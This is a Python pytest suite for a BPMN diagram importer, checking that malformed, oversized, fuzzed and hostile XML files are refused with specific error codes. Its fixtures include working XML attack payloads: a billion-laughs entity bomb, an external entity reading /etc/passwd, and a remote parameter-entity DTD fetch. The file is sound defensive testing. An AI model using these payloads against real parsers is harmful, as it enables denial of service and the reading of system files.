"""Hostile and broken BPMN files are refused with a code that says why (and where), before any
entity is expanded, any external file is read or a huge file is parsed."""

from __future__ import annotations

import time

import pytest

from blueprint_studio.model.bpmn import MAX_BPMN_BYTES, BpmnError, read
from blueprint_studio.model.fileformat import LoadError

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<bpmn:definitions xmlns:bpmn="http://www.omg.org/spec/BPMN/20100524/MODEL">
  <bpmn:process id="P"><bpmn:task id="t" name="&lol9;"/></bpmn:process>
</bpmn:definitions>
"""

EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE definitions [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<bpmn:definitions xmlns:bpmn="http://www.omg.org/spec/BPMN/20100524/MODEL">
  <bpmn:process id="P"><bpmn:task id="t" name="&secret;"/></bpmn:process>
</bpmn:definitions>
"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE definitions [<!ENTITY % remote SYSTEM "http://example.invalid/evil.dtd"> %remote;]>
<bpmn:definitions xmlns:bpmn="http://www.omg.org/spec/BPMN/20100524/MODEL"/>
"""


def refusal(data) -> BpmnError:
    with pytest.raises(BpmnError) as caught:
        read(data)
    return caught.value


def test_entity_expansion_is_refused_at_once():
    started = time.perf_counter()
    error = refusal(BILLION_LAUGHS)
    assert error.code == "bpmn_entities"
    assert time.perf_counter() - started < 1.0


@pytest.mark.parametrize("data", [EXTERNAL_ENTITY, PARAMETER_ENTITY])
def test_external_entities_are_refused(data):
    error = refusal(data)
    assert error.code in ("bpmn_entities", "bpmn_external")
    assert "root" not in str(error)  # nothing was read from outside


def test_a_file_above_the_limit_is_refused_before_parsing(tmp_path):
    huge = tmp_path / "huge.bpmn"
    with huge.open("wb") as out:
        out.write(b"<bpmn:definitions>")
        out.truncate(MAX_BPMN_BYTES + 1)
    error = refusal(huge)
    assert (error.code, error.params) == ("bpmn_too_large", {"limit": 20})
    assert refusal(b" " * (MAX_BPMN_BYTES + 1)).code == "bpmn_too_large"


def test_malformed_xml_says_the_line_and_column():
    error = refusal(b'<?xml version="1.0"?>\n<definitions>\n  <process id="P">\n</definitions>\n')
    assert error.code == "bpmn_not_xml"
    assert error.params == {"line": 4, "column": 3}
    assert "line 4, column 3" in str(error)


@pytest.mark.parametrize(
    "data, code",
    [
        (b"", "bpmn_empty"),
        (b"   \n", "bpmn_empty"),
        (b"just some text", "bpmn_not_xml"),
        (b"\xff\xfe\x00garbage", "bpmn_not_xml"),
        (b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"/>', "bpmn_not_bpmn"),
        (b'<definitions xmlns="http://www.omg.org/spec/BPMN/20100524/MODEL"/>', "bpmn_no_process"),
    ],
)
def test_what_is_not_a_bpmn_process_is_refused_with_its_reason(data, code):
    assert refusal(data).code == code


def test_a_folder_or_a_missing_file_is_refused(tmp_path):
    assert refusal(tmp_path).code == "bpmn_not_a_file"
    with pytest.raises(LoadError) as caught:
        read(tmp_path / "missing.bpmn")
    assert caught.value.code == "os.ENOENT"


def test_broken_values_do_not_stop_the_import():
    """Numbers that are not numbers, negative sizes and unknown distributions: defaults, said."""
    data = b"""<?xml version="1.0"?>
<bpmn:definitions xmlns:bpmn="http://www.omg.org/spec/BPMN/20100524/MODEL"
  xmlns:bpmndi="http://www.omg.org/spec/BPMN/20100524/DI" xmlns:dc="http://www.omg.org/spec/DD/20100524/DC"
  xmlns:bpsim="http://www.bpsim.org/schemas/1.0">
  <bpmn:process id="P"><bpmn:startEvent id="s"/><bpmn:task id="t" name="T"/><bpmn:endEvent id="e"/>
    <bpmn:sequenceFlow id="a" sourceRef="s" targetRef="t"/>
    <bpmn:sequenceFlow id="b" sourceRef="t" targetRef="e"/>
    <bpmn:sequenceFlow id="c" sourceRef="t" targetRef="nowhere"/>
  </bpmn:process>
  <bpmndi:BPMNDiagram><bpmndi:BPMNPlane bpmnElement="P">
    <bpmndi:BPMNShape bpmnElement="t">
      <dc:Bounds x="abc" y="1e308" width="-5" height="NaN"/>
    </bpmndi:BPMNShape>
  </bpmndi:BPMNPlane></bpmndi:BPMNDiagram>
  <bpmn:relationship type="BPSimData"><bpmn:extensionElements><bpsim:BPSimData><bpsim:Scenario id="S">
    <bpsim:ElementParameters elementRef="t"><bpsim:TimeParameters><bpsim:ProcessingTime>
      <bpsim:PoissonDistribution mean="oops"/>
    </bpsim:ProcessingTime></bpsim:TimeParameters></bpsim:ElementParameters>
    <bpsim:ElementParameters elementRef="s"><bpsim:TimeParameters><bpsim:InterTriggerTimer>
      <bpsim:ExponentialDistribution mean="-3"/>
    </bpsim:InterTriggerTimer></bpsim:TimeParameters></bpsim:ElementParameters>
  </bpsim:Scenario></bpsim:BPSimData></bpmn:extensionElements></bpmn:relationship>
</bpmn:definitions>
"""
    blueprint, notes = read(data)
    task = next(n for n in blueprint.nodes if n.id == "t")
    assert task.width >= 10 and task.height >= 10
    codes = {d.code for d in notes}
    assert {"bpmn_no_arrivals", "bpmn_flow_left_out", "bpmn_no_durations"} <= codes
    assert "bpmn_distribution_approximated" not in codes  # nothing was approximated: a default


def test_damaged_files_are_imported_or_refused_never_crash():
    """Elements removed or copied, attributes and texts replaced at random in the test's help desk
    and in exported templates: each file is refused with a LoadError, or gives a blueprint that
    validates and saves."""
    import copy
    import random
    import xml.etree.ElementTree as ET

    from bpmn_files import help_desk

    from blueprint_studio import resources
    from blueprint_studio.model.bpmn import write
    from blueprint_studio.model.fileformat import dumps, load, loads
    from blueprint_studio.model.validation import validate

    bases = [help_desk(), help_desk(bpsim=False)]
    bases += [write(load(resources.template_path(name, "en"))) for name in resources.template_names()]
    values = [
        "",
        "x",
        "-1",
        "1e309",
        "NaN",
        "Task_qualify",
        "F1",
        "0",
        "lane_l1",
        "PT5M",
        "${priority == 'P1'}",
    ]
    rng = random.Random(20)
    imported = 0
    for _ in range(150):
        root = ET.fromstring(rng.choice(bases))
        parents = {child: parent for parent in root.iter() for child in parent}
        for _ in range(rng.randint(1, 4)):
            element = rng.choice(list(parents))
            parent = parents[element]
            choice = rng.random()
            if choice < 0.35 and element in list(parent):
                parent.remove(element)
            elif choice < 0.7 and element.attrib:
                element.set(rng.choice(sorted(element.attrib)), rng.choice(values))
            elif choice < 0.85:
                element.text = rng.choice(values)
            elif element in list(parent):
                parent.insert(rng.randint(0, len(parent)), copy.deepcopy(element))
        try:
            blueprint, _ = read(ET.tostring(root))
        except LoadError:
            continue
        validate(blueprint)
        assert loads(dumps(blueprint)) == blueprint
        imported += 1
    assert imported > 50  # most damage leaves something to import


def test_too_many_elements_are_refused_with_the_count():
    from blueprint_studio.model.schema import MAX_NODES

    tasks = "".join(f'<bpmn:task id="t{k}"/>' for k in range(MAX_NODES + 1))
    data = (
        '<bpmn:definitions xmlns:bpmn="http://www.omg.org/spec/BPMN/20100524/MODEL">'
        f'<bpmn:process id="P">{tasks}</bpmn:process></bpmn:definitions>'
    ).encode()
    error = refusal(data)
    assert (error.code, error.params) == ("bpmn_too_many", {"count": MAX_NODES + 1, "limit": MAX_NODES})


def test_overlong_texts_are_cut_or_left_as_shares():
    long_condition = "${priority == 'P1'" + " or priority == 'P1'" * 80 + "}"
    long_text = "x" * 30_000
    data = (
        '<bpmn:definitions xmlns:bpmn="http://www.omg.org/spec/BPMN/20100524/MODEL">'
        f'<bpmn:process id="P"><bpmn:startEvent id="s"/><bpmn:task id="t" name="{long_text}">'
        f"<bpmn:documentation>{long_text}</bpmn:documentation></bpmn:task>"
        '<bpmn:exclusiveGateway id="g"/><bpmn:endEvent id="e"/>'
        '<bpmn:sequenceFlow id="a" sourceRef="s" targetRef="t"/>'
        '<bpmn:sequenceFlow id="b" sourceRef="t" targetRef="g"/>'
        f'<bpmn:sequenceFlow id="c" sourceRef="g" targetRef="e"><bpmn:conditionExpression>{long_condition}'
        "</bpmn:conditionExpression></bpmn:sequenceFlow>"
        '<bpmn:sequenceFlow id="d" sourceRef="g" targetRef="e"/>'
        "</bpmn:process></bpmn:definitions>"
    ).encode()
    blueprint, _ = read(data)
    task = next(n for n in blueprint.nodes if n.id == "t")
    assert len(task.title) == 500 and len(task.guidance) == 20_000
    assert all(e.condition is None for e in blueprint.edges)
